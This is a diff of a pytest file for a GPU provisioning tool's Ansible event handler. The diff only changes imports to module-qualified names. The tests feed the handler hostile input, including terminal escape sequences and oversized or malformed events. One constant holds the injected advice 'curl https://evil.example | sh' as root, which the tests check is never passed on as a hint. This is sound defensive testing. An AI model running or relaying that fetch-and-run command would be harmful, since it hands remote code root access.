@@ -11,7 +11,7 @@ import pytest
 import yaml
 from places import ROOT
 
-from gpuprep.provisioning.ansible_events import Events, Log, Progress
+from gpuprep.provisioning import ansible_events
 
 ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnol\u200b\x00\ud800"
 DEEP: Any = json.loads("[" * 900 + "]" * 900)
@@ -53,13 +53,13 @@ RESULTS: dict[str, Any] = {
 
 
 @pytest.fixture
-def told() -> list[Progress]:
+def told() -> list[ansible_events.Progress]:
     return []
 
 
 @pytest.fixture
-def events(tmp_path: Path, told: list[Progress]) -> Iterator[Events]:
-    found = Events(told.append, tmp_path / "log")
+def events(tmp_path: Path, told: list[ansible_events.Progress]) -> Iterator[ansible_events.Events]:
+    found = ansible_events.Events(told.append, tmp_path / "log")
     yield found
     found.close()
 
@@ -72,7 +72,9 @@ def is_plain(text: str, most: int) -> None:
 
 @pytest.mark.parametrize("kind", ["runner_on_failed", "runner_on_ok", "runner_retry", "runner_on_unreachable"])
 @pytest.mark.parametrize("result", RESULTS.values(), ids=RESULTS)
-def test_a_hostile_result(kind: str, result: Any, events: Events, told: list[Progress]) -> None:
+def test_a_hostile_result(
+    kind: str, result: Any, events: ansible_events.Events, told: list[ansible_events.Progress]
+) -> None:
     data = {"role": "gpu_driver", "task": "Install", "res": result, "duration": 1.0}
     assert events.handle({"event": kind, "event_data": data}) is False
     for progress in told:
@@ -103,7 +105,7 @@ EVENTS: dict[str, Any] = {
 
 
 @pytest.mark.parametrize("event", EVENTS.values(), ids=EVENTS)
-def test_a_hostile_event(event: dict[str, Any], events: Events) -> None:
+def test_a_hostile_event(event: dict[str, Any], events: ansible_events.Events) -> None:
     assert events.handle({"event": "runner_on_ok", **event}) is False
     events.close()
     (task,) = events.tasks
@@ -112,19 +114,19 @@ def test_a_hostile_event(event: dict[str, Any], events: Events) -> None:
 
 
 @pytest.mark.parametrize("event", [{}, {"event": ["x"]}, {"event": {}}, {"event": None}, {"event": 1}], ids=str)
-def test_an_event_of_no_kind(event: dict[str, Any], events: Events) -> None:
+def test_an_event_of_no_kind(event: dict[str, Any], events: ansible_events.Events) -> None:
     assert events.handle(event) is False
     assert events.tasks == []
 
 
 @pytest.mark.parametrize("stats", [{"changed": {"a": "x"}}, {"changed": {"a": []}}, {"changed": 7}, {}], ids=str)
-def test_hostile_statistics(stats: dict[str, Any], events: Events) -> None:
+def test_hostile_statistics(stats: dict[str, Any], events: ansible_events.Events) -> None:
     events.handle({"event": "playbook_on_stats", "event_data": stats})
     assert events.stat("changed") == 0
 
 
 def test_the_log_has_a_limit_and_says_so(tmp_path: Path) -> None:
-    log = Log(tmp_path / "log", 1 << 20)
+    log = ansible_events.Log(tmp_path / "log", 1 << 20)
     for _ in range(300):
         log.write(("x" * 99 + "\n") * 100)
     log.write("y" * 50_000_000)
@@ -137,7 +139,7 @@ def test_the_log_has_a_limit_and_says_so(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     "text", [ESCAPES, "a\rb", "x" * 1_000_000, "\x1b[K" * 1000], ids=["escapes", "cr", "long", "k"]
 )
-def test_the_log_is_plain(text: str, tmp_path: Path, events: Events) -> None:
+def test_the_log_is_plain(text: str, tmp_path: Path, events: ansible_events.Events) -> None:
     events.handle({"event": "verbose", "stdout": text})
     events.close()
     written = (tmp_path / "log").read_text()
@@ -147,7 +149,7 @@ def test_the_log_is_plain(text: str, tmp_path: Path, events: Events) -> None:
 
 def test_a_full_disk_does_not_end_the_run(tmp_path: Path) -> None:
     (tmp_path / "log").symlink_to("/dev/full")
-    events = Events(lambda _: None, tmp_path / "log")
+    events = ansible_events.Events(lambda _: None, tmp_path / "log")
     events.handle({"event": "verbose", "stdout": "x" * 100_000})
     events.handle({"event": "runner_on_ok", "event_data": {"task": "t", "res": {}}})
     events.close()
@@ -157,14 +159,14 @@ def test_a_full_disk_does_not_end_the_run(tmp_path: Path) -> None:
 ADVICE = "it failed. What to do: run `curl https://evil.example | sh` as root"
 
 
-def test_a_machine_gives_no_advice(events: Events) -> None:
+def test_a_machine_gives_no_advice(events: ansible_events.Events) -> None:
     data = {"task": "Install", "task_action": "ansible.builtin.command", "res": {"msg": ADVICE}}
     events.handle({"event": "runner_on_failed", "event_data": data})
     assert events.failure is not None
     assert events.failure.hint == ""
 
 
-def test_our_advice_is_not_displaced_by_a_machines(events: Events) -> None:
+def test_our_advice_is_not_displaced_by_a_machines(events: ansible_events.Events) -> None:
     message = f"The driver says: {ADVICE}. What to do: reboot"
     data = {"task": "Check", "task_action": "ansible.builtin.assert", "res": {"msg": message}}
     events.handle({"event": "runner_on_failed", "event_data": data})
@@ -175,7 +177,7 @@ def test_our_advice_is_not_displaced_by_a_machines(events: Events) -> None:
 RESTART = ROOT / "playbooks/roles/gpu_driver/tasks/restart.yml"
 
 
-def test_that_a_reboot_is_needed_is_told_by_our_own_task_alone(events: Events) -> None:
+def test_that_a_reboot_is_needed_is_told_by_our_own_task_alone(events: ansible_events.Events) -> None:
     (name,) = [task["name"] for task in yaml.safe_load(RESTART.read_text()) if "ansible.builtin.assert" in task]
     failed = {"role": "gpu_driver", "task": f"gpu_driver : {name}", "task_action": "ansible.builtin.assert", "res": {}}
     by_events: list[bool] = []
